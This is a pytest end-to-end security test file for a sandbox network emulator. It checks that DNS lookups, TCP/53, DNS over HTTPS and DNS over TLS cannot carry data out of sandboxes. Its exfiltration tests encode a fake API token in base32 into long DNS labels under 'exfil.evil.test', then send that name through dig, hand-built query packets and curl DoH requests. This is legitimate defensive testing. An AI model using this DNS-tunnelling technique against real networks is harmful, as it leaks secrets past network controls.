"""DNS as a way out (threat model §5.1), with real programs (dig, curl, python3) in real sandboxes.

DNS itself is tested in namespace capture: there, the sandbox's resolver is the emulator's and DNS to any
server, over UDP or TCP, is redirected to it (netns.py, dns.py). Explicit-proxy mode captures no DNS at all — a
sandbox there uses the host's resolver, and raw sockets (DoT) go where they like: that mode's known limits —
so only DoH, which goes through the proxy as HTTPS, is tested in both modes.

What stands in for the internet:
- the internet's DNS: ``recorded_dev`` runs `outbound dev` with a resolver stand-in that writes every name it
  is asked to a file (``lookups()``), so "looked up nowhere" is an observation, not a hope;
- public resolvers' other services: ``cloudflare-dns.com``, ``dns.google``, ``1.1.1.1`` and ``8.8.8.8`` are
  routed (``--connect-to``) to a recording HTTP(S) server for DoH and a recording TCP server for TCP/53 and
  DoT (853). Anything reaching them would have left the machine in production.

Classes (fixtures/handlers/dns): ``Sealed`` (internet off, only allowed.test registered), ``Listed`` (internet
off, allowedHosts: every name resolves to the placeholder and HTTP(S) decides), ``Open`` (internet on, nothing
intercepted: names resolve upstream, as production does, contract §2.4).
"""

from __future__ import annotations

import asyncio
import base64
import json
import subprocess
import time
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass, field
from typing import Any

import pytest
from aiohttp import web

from emulator.dns import NOT_REGISTERED, PLACEHOLDER_V4
from tests.e2e.conftest import ROOT, DevServer, Result, namespaces_available, traversable_folder
from tests.security.conftest import MODES, PYTHON, Upstreams
from tests.security.recorded_dev import LOOKUPS_FILE
from tests.support.upstream import LocalInternet, RunningServer, start_server

pytestmark = pytest.mark.e2e

PROJECT = ROOT / "fixtures" / "handlers" / "dns"
DOH_NAMES = ("cloudflare-dns.com", "dns.google")
PUBLIC_RESOLVERS = ("1.1.1.1", "8.8.8.8")
# What dig shows of the reason the emulator's resolver gives for a name the policy does not resolve.
BLOCKED = f"15 (Blocked): ({NOT_REGISTERED.text})"
DENIED = "HTTP/1.1 520 \r\ncontent-type: text/plain;charset=UTF-8\r\ncontent-length: 20\r\n\r\nOrigin is disallowed"
# A secret in base32, as exfiltration tools send it: three 63-octet labels (the last padded) under an attacker's
# zone, 207 characters in all, a valid name (RFC 1035 §2.3.4).
SECRET = base64.b32encode(
    b"API_TOKEN=sk-live-0123456789abcdef0123456789abcdef; a secret that must not leave by DNS, ever"
).decode()
LABELS = [SECRET.lower().rstrip("=")[i : i + 63].ljust(63, "x") for i in (0, 63, 126)]
EXFIL = ".".join([*LABELS, "exfil", "evil", "test"])
RECORD_TYPES = ("A", "AAAA", "TXT", "ANY", "NULL", "MX")


# -- in the sandbox ---------------------------------------------------------------------------------------

# Runs dig once per query of argv[1] (JSON: [server, "+tcp"|"+notcp", name, type, *options]; server "" is the
# resolver in resolv.conf, "gateway" the sandbox's default gateway, which is the host); prints, per query,
# {"status": NOERROR/NXDOMAIN/… or None when no answer came, "answers": [rdata, …], "ede": the Extended DNS
# Error as dig shows it, "15 (Blocked): (text)", or None}.
DIG = r"""
import json, subprocess, sys
gateway = subprocess.run(["ip", "route"], capture_output=True, text=True).stdout.split("via ")[1].split()[0]
results = []
for server, transport, name, qtype, *options in json.loads(sys.argv[1]):
    target = [f"@{gateway if server == 'gateway' else server}"] if server else []
    out = subprocess.run(
        ["dig", *target, transport, "+time=2", "+tries=1", "+noall", "+comments", "+answer", *options, name, qtype],
        capture_output=True, text=True,
    ).stdout
    status = next((line.split("status: ")[1].split(",")[0] for line in out.splitlines() if "status: " in line), None)
    answers = [line.split()[-1] for line in out.splitlines() if line and not line.startswith(";")]
    ede = next((line.split("; EDE: ", 1)[1] for line in out.splitlines() if line.startswith("; EDE: ")), None)
    results.append({"status": status, "answers": answers, "ede": ede})
print(json.dumps(results))
"""

# Sends one A query for the name made of argv[2]'s labels (JSON list, lengths unchecked: a hand-made packet
# can say what dig refuses to) to argv[1]:53 over UDP and over TCP; prints {"udp": rcode or None (no answer),
# "tcp": rcode or None (closed unanswered)}.
RAW_QUERY = r"""
import json, os, socket, struct, sys
server, labels = sys.argv[1], json.loads(sys.argv[2])
name = b"".join(bytes([len(label)]) + label.encode() for label in labels) + b"\0"
query = os.urandom(2) + bytes.fromhex("01000001000000000000") + name + struct.pack("!HH", 1, 1)
result = {}
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.settimeout(1)
udp.sendto(query, (server, 53))
try:
    result["udp"] = udp.recv(4096)[3] & 0xF
except TimeoutError:
    result["udp"] = None
tcp = socket.create_connection((server, 53), timeout=3)
tcp.sendall(struct.pack("!H", len(query)) + query)
try:
    head = tcp.recv(2)
    result["tcp"] = tcp.recv(4096)[3] & 0xF if len(head) == 2 else None
except (TimeoutError, ConnectionResetError):
    result["tcp"] = None
print(json.dumps(result))
"""

# Connects to argv[1]:argv[2], starts TLS (DNS over TLS, RFC 7858) and sends one framed query; prints what
# became of it: "answered", "closed" (the connection ended), or the error's name.
DOT = r"""
import socket, ssl, struct, sys
query = bytes.fromhex("abcd01000001000000000000") + b"\x07example\x03com\x00\x00\x01\x00\x01"
try:
    sock = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=3)
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    tls = context.wrap_socket(sock, server_hostname=sys.argv[3] if len(sys.argv) > 3 else None)
    tls.sendall(struct.pack("!H", len(query)) + query)
    print("answered" if tls.recv(2) else "closed")
except (ConnectionResetError, ssl.SSLEOFError, ssl.SSLZeroReturnError):
    print("closed")
except OSError as error:
    print(type(error).__name__)
"""


# Runs each command of argv[1] (JSON list of argv lists) in turn; prints [[exit code, stdout], …]. One
# `outbound run` for several probes: each run costs a process start and a round trip to the emulator.
EACH = r"""
import json, subprocess, sys
results = [subprocess.run(argv, capture_output=True) for argv in json.loads(sys.argv[1])]
print(json.dumps([[result.returncode, result.stdout.decode("latin-1")] for result in results]))
"""

# Connects to argv[1]:argv[2] and sends a byte (the proxy decides on a connection once its client speaks), then
# waits for the other side to close it.
KNOCK = r"""
import socket, sys
with socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=5) as sock:
    sock.sendall(b"?")
    try:
        sock.recv(1)
    except OSError:
        pass
"""


# -- stand-ins for the internet ---------------------------------------------------------------------------


@dataclass
class TcpRecorder:
    """A TCP server that records who connected and what they sent (DoT, TCP/53), then closes."""

    port: int = 0
    accepted: list[bytes] = field(default_factory=list)
    server: asyncio.Server | None = None

    async def start(self) -> TcpRecorder:
        async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            try:
                self.accepted.append(await asyncio.wait_for(reader.read(4096), 2))
            except (TimeoutError, ConnectionError):
                self.accepted.append(b"")
            writer.close()

        self.server = await asyncio.start_server(handle, "127.0.0.1", 0)
        self.port = self.server.sockets[0].getsockname()[1]
        return self


@dataclass
class Resolvers:
    """What reached the public resolvers' stand-ins: DoH requests (method, Host, path) and TCP connections."""

    doh: list[tuple[str, str, str]]
    tcp: TcpRecorder

    def clear(self) -> None:
        self.doh.clear()
        self.tcp.accepted.clear()


def doh_app(seen: list[tuple[str, str, str]]) -> web.Application:
    async def answer(request: web.Request) -> web.Response:
        seen.append((request.method, request.host, request.path_qs))
        return web.Response(body=b"resolver", content_type="application/dns-message")

    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", answer)
    return app


class RecordedDev(DevServer):
    module = "tests.security.recorded_dev"

    def lookups(self) -> list[str]:
        """Every name the emulator has looked up upstream, in order."""
        path = self.state / LOOKUPS_FILE
        return path.read_text().splitlines() if path.exists() else []

    def records(self, sandbox: str) -> list[dict[str, Any]]:
        path = self.state / "audit.jsonl"
        lines = path.read_text().splitlines() if path.exists() else []
        return [record for line in lines if (record := json.loads(line))["sandbox"] == sandbox]


@pytest.fixture(scope="module")
async def resolvers(internet: tuple[LocalInternet, Upstreams]) -> AsyncIterator[Resolvers]:
    local = internet[0]
    seen: list[tuple[str, str, str]] = []
    servers: list[RunningServer] = [
        await start_server(doh_app(seen)),
        await start_server(doh_app(seen), local.ca.issue_leaf(*DOH_NAMES, *PUBLIC_RESOLVERS).server_context()),
    ]
    tcp = await TcpRecorder().start()
    for name in (*DOH_NAMES, *PUBLIC_RESOLVERS):
        local.connect_to[name] = f"127.0.0.1:{servers[0].port}"
        local.connect_to[f"{name}:443"] = f"127.0.0.1:{servers[1].port}"
    for address in PUBLIC_RESOLVERS:
        for port in (53, 853):
            local.connect_to[f"{address}:{port}"] = f"127.0.0.1:{tcp.port}"
    try:
        yield Resolvers(seen, tcp)
    finally:
        assert tcp.server is not None
        tcp.server.close()
        for server in servers:
            await server.close()


@pytest.fixture(scope="module", params=MODES)
async def dev(
    request: pytest.FixtureRequest, internet: tuple[LocalInternet, Upstreams], resolvers: Resolvers
) -> AsyncIterator[RecordedDev]:
    mode = str(request.param)
    if mode == "namespace" and not namespaces_available():
        pytest.skip("needs root, network namespaces and nftables")
    server = RecordedDev(PROJECT, traversable_folder(f"dns-{mode}"), internet[0], mode)
    await server.start()
    try:
        yield server
    finally:
        await server.stop()


@pytest.fixture
def namespace_only(dev: RecordedDev) -> None:
    """Skips tests of what only namespace capture catches (DNS, raw sockets) in explicit-proxy mode."""
    if dev.capture == "explicit":
        pytest.skip(
            "explicit-proxy mode captures no DNS and no raw sockets: a sandbox uses the host's resolver and "
            "connects where it likes (a known limit of that mode; see SECURITY.md)"
        )


@pytest.fixture
def seen(resolvers: Resolvers, internet: tuple[LocalInternet, Upstreams]) -> Resolvers:
    resolvers.clear()
    internet[1].clear()
    return resolvers


async def dig(dev: RecordedDev, sandbox: str, cls: str, queries: list[list[str]]) -> list[dict[str, Any]]:
    result = await dev.run(sandbox, PYTHON, "-c", DIG, json.dumps(queries), cls=cls, timeout=60)
    assert result.code == 0, result
    answers: list[dict[str, Any]] = json.loads(result.stdout)
    return answers


async def in_sandbox(dev: RecordedDev, sandbox: str, cls: str, *argv: str) -> Result:
    return await dev.run(sandbox, *argv, cls=cls, timeout=60)


async def each(dev: RecordedDev, sandbox: str, cls: str, *commands: list[str]) -> list[tuple[int, str]]:
    """Each command's exit code and stdout, run one after another in one sandbox process."""
    result = await dev.run(sandbox, PYTHON, "-c", EACH, json.dumps(commands), cls=cls, timeout=60)
    assert result.code == 0, result
    return [(code, stdout) for code, stdout in json.loads(result.stdout)]


async def records_until(
    dev: RecordedDev, sandbox: str, done: Callable[[list[dict[str, Any]]], bool], timeout_s: float = 10
) -> list[dict[str, Any]]:
    """``sandbox``'s audit records once ``done`` holds for them (records are written just after the fact)."""
    deadline = time.monotonic() + timeout_s
    while not done(found := dev.records(sandbox)) and time.monotonic() < deadline:
        await asyncio.sleep(0.1)
    assert done(found), found
    return found


def host_address() -> str | None:
    """An address of the host's own outside the sandboxes' subnet (its LAN address), if it has one."""
    out = subprocess.run(["ip", "-j", "-4", "addr", "show"], capture_output=True, text=True, check=True).stdout
    for link in json.loads(out):
        for info in link.get("addr_info", []):
            if link["ifname"] != "lo" and not info["local"].startswith("10.213."):
                return str(info["local"])
    return None


# -- hard-coded resolvers and TCP/53 ----------------------------------------------------------------------


@pytest.mark.usefixtures("namespace_only")
async def test_hard_coded_resolvers_get_the_policys_answer_over_udp_and_tcp(dev: RecordedDev, seen: Resolvers) -> None:
    """`dig @8.8.8.8`, `@1.1.1.1`, `@<the host>` — over UDP and TCP — are answered by the emulator's resolver
    by the sandbox's policy: allowed.test is the placeholder, evil.test does not exist (NXDOMAIN, the reason in
    an Extended DNS Error that dig prints). Nothing is dialled to the resolver named, nothing is looked up
    upstream, and TCP/53 never reaches the proxy (no audit record)."""
    before = dev.lookups()
    servers = ["", *PUBLIC_RESOLVERS, "gateway", *filter(None, [host_address()])]
    queries = [
        [server, transport, name, "A"]
        for server in servers
        for transport in ("+notcp", "+tcp")
        for name in ("allowed.test", "evil.test")
    ]
    answers = await dig(dev, "hard-1", "Sealed", queries)
    expected = {"allowed.test": {"status": "NOERROR", "answers": [PLACEHOLDER_V4], "ede": None}}
    nxdomain = {"status": "NXDOMAIN", "answers": [], "ede": BLOCKED}
    for (server, transport, name, _), answer in zip(queries, answers, strict=True):
        assert answer == expected.get(name, nxdomain), (server, transport, name)
    assert seen.tcp.accepted == [] and seen.doh == []
    assert dev.lookups() == before
    # A refused connection to port 9 is this sandbox's last record: had TCP/53 reached the proxy, its records
    # would be there before it.
    await in_sandbox(dev, "hard-1", "Sealed", PYTHON, "-c", KNOCK, "203.0.113.9", "9")
    records = await records_until(dev, "hard-1", lambda found: any(r["url"] == "tcp://203.0.113.9:9" for r in found))
    assert [r["url"] for r in records] == ["tcp://203.0.113.9:9"]


@pytest.mark.usefixtures("namespace_only")
async def test_tcp_53_with_the_internet_on_is_answered_here_not_dialled(dev: RecordedDev, seen: Resolvers) -> None:
    """With the internet on, TCP/53 used to be "another port" and went to the resolver the sandbox named
    (here its stand-in); now it is answered like UDP: by the emulator's resolver, from the upstream it uses.
    An answer too long for UDP (40 addresses, no EDNS) is truncated there, and dig's retry over TCP — the one
    every stub makes — gets it whole."""
    queries = [[server, "+tcp", "exists.test", "A"] for server in ("8.8.8.8", "1.1.1.1", "")]
    queries.append(["8.8.8.8", "+notcp", "many.test", "A", "+noedns"])  # TC over UDP, then TCP
    answers = await dig(dev, "open-1", "Open", queries)
    assert answers[:3] == [{"status": "NOERROR", "answers": ["192.0.2.10"], "ede": None}] * 3
    many = [f"192.0.2.{index}" for index in range(100, 140)]
    assert answers[3] == {"status": "NOERROR", "answers": many, "ede": None}
    assert seen.tcp.accepted == []
    assert dev.lookups()[-5:] == ["exists.test"] * 3 + ["many.test"] * 2  # the UDP try, then the TCP one


# -- exfiltration through names ---------------------------------------------------------------------------


@pytest.mark.usefixtures("namespace_only")
async def test_long_label_exfiltration_is_nxdomain_and_looked_up_nowhere(dev: RecordedDev, seen: Resolvers) -> None:
    """`<63 chars>.<63 chars>.<63 chars>.exfil.evil.test` of every record type, to the configured resolver and
    to hard-coded ones, over UDP and TCP, with an EDNS Client Subnet option too: NXDOMAIN, and no name
    reaches an upstream resolver. The C library's stub (getent) gets no address either, and has no search
    domain to append."""
    before = dev.lookups()
    queries = [
        [server, transport, EXFIL, qtype]
        for server in ("", "8.8.8.8")
        for transport in ("+notcp", "+tcp")
        for qtype in RECORD_TYPES
    ]
    queries.append(["1.1.1.1", "+notcp", EXFIL, "A", "+subnet=203.0.113.0/24"])
    queries.append(["", "+notcp", f"{LABELS[0]}.allowed.test.evil.test", "TXT"])
    answers = await dig(dev, "exfil-1", "Sealed", queries)
    assert answers == [{"status": "NXDOMAIN", "answers": [], "ede": BLOCKED}] * len(queries)
    stub, resolv_conf = await each(dev, "exfil-1", "Sealed", ["getent", "ahosts", EXFIL], ["cat", "/etc/resolv.conf"])
    assert stub == (2, "")
    # One nameserver (the emulator), no search domains: a short name is never completed into a name elsewhere.
    assert resolv_conf[1].startswith("nameserver ") and resolv_conf[1].count("\n") == 1, resolv_conf
    assert dev.lookups() == before
    assert seen.tcp.accepted == [] and seen.doh == []


@pytest.mark.usefixtures("namespace_only")
async def test_with_an_allow_list_every_name_is_the_placeholder_and_nothing_is_looked_up(
    dev: RecordedDev, seen: Resolvers
) -> None:
    """An allow-list is intercept-all: every name resolves (to 11.0.0.1, contract §2.4), since the HTTP decision
    is what denies; so an exfiltration name gets an answer — from here, with nothing looked up anywhere."""
    before = dev.lookups()
    answers = await dig(dev, "listed-1", "Listed", [["8.8.8.8", t, EXFIL, "A"] for t in ("+notcp", "+tcp")])
    assert answers == [{"status": "NOERROR", "answers": [PLACEHOLDER_V4], "ede": None}] * 2
    assert dev.lookups() == before


@pytest.mark.usefixtures("namespace_only")
async def test_over_long_names_are_refused_without_a_lookup_even_with_the_internet_on(dev: RecordedDev) -> None:
    """Names a resolver must not forward, made by hand (dig will not), from a sandbox whose names are looked up
    upstream: over 253 characters is NXDOMAIN over UDP and TCP; a label over 63 octets is no DNS message at all,
    so it gets no answer over UDP and a closed connection over TCP. Neither is looked up. A 253-character name
    is: the lookup would have been seen."""
    before = dev.lookups()
    too_long = ["a" * 63, "b" * 63, "c" * 63, "d" * 62]  # 254 characters
    longest = ["a" * 63, "b" * 63, "c" * 63, "d" * 61]  # 253: the longest host name there is
    label_64 = ["a" * 64, "exfil", "test"]
    probes = [[PYTHON, "-c", RAW_QUERY, "8.8.8.8", json.dumps(labels)] for labels in (too_long, label_64, longest)]
    results = [json.loads(stdout) for _, stdout in await each(dev, "open-2", "Open", *probes)]
    nxdomain = 3
    assert results[0] == {"udp": nxdomain, "tcp": nxdomain}
    assert results[1] == {"udp": None, "tcp": None}  # a 64-octet label is no DNS message: dropped, closed
    assert results[2] == {"udp": nxdomain, "tcp": nxdomain}  # looked up, and the stand-in knows no such name
    assert dev.lookups()[len(before) :] == [".".join(longest)] * 2


@pytest.mark.usefixtures("namespace_only")
async def test_with_the_internet_on_names_are_looked_up_upstream_as_in_production(dev: RecordedDev) -> None:
    """Contract §2.4: with enableInternet on, the sandbox's names are resolved upstream — production forwards
    them to Cloudflare's resolvers — so DNS can carry data out of such a sandbox. Documented, not changed:
    turn the internet off (or register only the hosts you need) to close it."""
    before = dev.lookups()
    answers = await dig(dev, "open-3", "Open", [["8.8.8.8", "+notcp", EXFIL, "TXT"]])
    assert answers == [{"status": "NXDOMAIN", "answers": [], "ede": None}]  # the upstream's NXDOMAIN
    assert dev.lookups()[len(before) :] == [EXFIL]


# -- DoH and DoT ------------------------------------------------------------------------------------------

DOH_QUERY = base64.urlsafe_b64encode(
    bytes.fromhex("abcd01000001000000000000") + b"\x04evil\x04test\x00\x00\x01\x00\x01"
)
CURL = ("curl", "-s", "-i", "--suppress-connect-headers", "--http1.1", "--max-time", "10")


async def test_doh_is_https_and_the_policy_denies_it(dev: RecordedDev, seen: Resolvers) -> None:
    """DNS over HTTPS is HTTPS: decrypted and decided by name like any other request. For an allow-list
    without the resolver: 520 `Origin is disallowed` (contract §1.7), by name or by IP literal over HTTP;
    to an IP literal over TLS there is no SNI to decide by, so the connection is refused (internet off). No
    request reaches the resolvers' stand-in, and no name is looked up."""
    before = dev.lookups()
    query = DOH_QUERY.decode().rstrip("=")
    by_name, post, plain_ip, tls_ip = await each(
        dev, "doh-1", "Listed",
        [*CURL, f"https://cloudflare-dns.com/dns-query?dns={query}"],
        [*CURL, "-H", "content-type: application/dns-message", "--data-binary", "@/dev/null",
         "https://dns.google/dns-query"],
        [*CURL, f"http://1.1.1.1/dns-query?dns={query}"],
        [*CURL, "-k", f"https://8.8.8.8/dns-query?dns={query}"],
    )  # fmt: skip
    assert by_name == (0, DENIED) and post == (0, DENIED) and plain_ip == (0, DENIED)
    assert tls_ip[1] == "" and tls_ip[0] in (35, 52, 56), tls_ip  # TLS cut short: nothing answered
    assert seen.doh == [] and seen.tcp.accepted == []
    assert dev.lookups() == before
    records = await records_until(dev, "doh-1", lambda found: len(found) >= 4)
    refused = "refused: HTTPS here is not intercepted and enableInternet is false"
    assert [(r["method"], r["url"].split("?")[0], r["step"], r["status"], r["error"]) for r in records] == [
        ("GET", "https://cloudflare-dns.com/dns-query", "not allowlisted", 520, None),
        ("POST", "https://dns.google/dns-query", "not allowlisted", 520, None),
        ("GET", "http://1.1.1.1/dns-query", "not allowlisted", 520, None),
        ("CONNECT", "https://8.8.8.8:443", "not intercepted", None, refused),
    ]


async def test_doh_to_a_name_the_policy_does_not_know(dev: RecordedDev, seen: Resolvers) -> None:
    """A sandbox that registered only allowed.test: the resolver's name does not resolve (namespace capture;
    through the explicit proxy the name goes in the CONNECT), and reached anyway (`--resolve`), TLS for a name
    the class does not intercept passes through only with the internet on — here it is refused. Registered at
    runtime, the same request reaches the resolver's stand-in: what these assertions watch would have seen it."""
    url = f"https://cloudflare-dns.com/dns-query?dns={DOH_QUERY.decode().rstrip('=')}"
    options: list[str] = []  # through the explicit proxy, the name is in the CONNECT: nothing to resolve
    if dev.capture == "namespace":
        unresolved = await in_sandbox(dev, "doh-2", "Sealed", *CURL, url)
        assert unresolved.code == 6, unresolved  # curl: could not resolve host
        options = ["--resolve", "cloudflare-dns.com:443:1.1.1.1"]
    refused = await in_sandbox(dev, "doh-2", "Sealed", *CURL, *options, url)
    assert refused.stdout == "" and refused.code in (35, 52, 56), refused  # TLS cut short
    assert seen.doh == []
    records = await records_until(dev, "doh-2", lambda found: len(found) >= 1)
    assert [(r["method"], r["url"]) for r in records] == [("CONNECT", "https://cloudflare-dns.com:443")]
    assert "enableInternet is false" in records[0]["error"]
    async with dev.remote() as remote:
        await remote.sandbox("doh-2").set_outbound_by_host("cloudflare-dns.com", "forward")
    allowed = await in_sandbox(dev, "doh-2", "Sealed", *CURL, url)
    assert allowed.stdout.startswith("HTTP/1.1 200"), allowed
    assert [(method, host) for method, host, _ in seen.doh] == [("GET", "cloudflare-dns.com")]


@pytest.mark.usefixtures("namespace_only")
async def test_dot_is_refused_with_the_internet_off(dev: RecordedDev, seen: Resolvers) -> None:
    """DNS over TLS (TCP 853) is a port other than 80/443: never intercepted, refused with the internet off
    (contract §1.8), the audit record saying why; nothing reaches the resolvers' stand-in. With the internet
    on it passes through, as production's does — the stand-in sees it, so it would have seen the others."""
    for cls in ("Sealed", "Listed"):
        probes = [[PYTHON, "-c", DOT, address, "853"] for address in PUBLIC_RESOLVERS]
        assert await each(dev, f"dot-{cls}", cls, *probes) == [(0, "closed\n")] * 2
    assert seen.tcp.accepted == []
    for cls in ("Sealed", "Listed"):
        records = await records_until(dev, f"dot-{cls}", lambda found: len(found) >= 2)
        assert [(r["method"], r["url"]) for r in records] == [
            ("TCP", "tcp://1.1.1.1:853"),
            ("TCP", "tcp://8.8.8.8:853"),
        ]
        assert all("enableInternet is false" in r["error"] for r in records)
    opened = await in_sandbox(dev, "dot-open", "Open", PYTHON, "-c", DOT, "1.1.1.1", "853")
    assert opened.stdout.strip() == "closed", opened  # the stand-in records the ClientHello and hangs up
    assert len(seen.tcp.accepted) == 1 and seen.tcp.accepted[0][:1] == b"\x16"  # a TLS handshake record
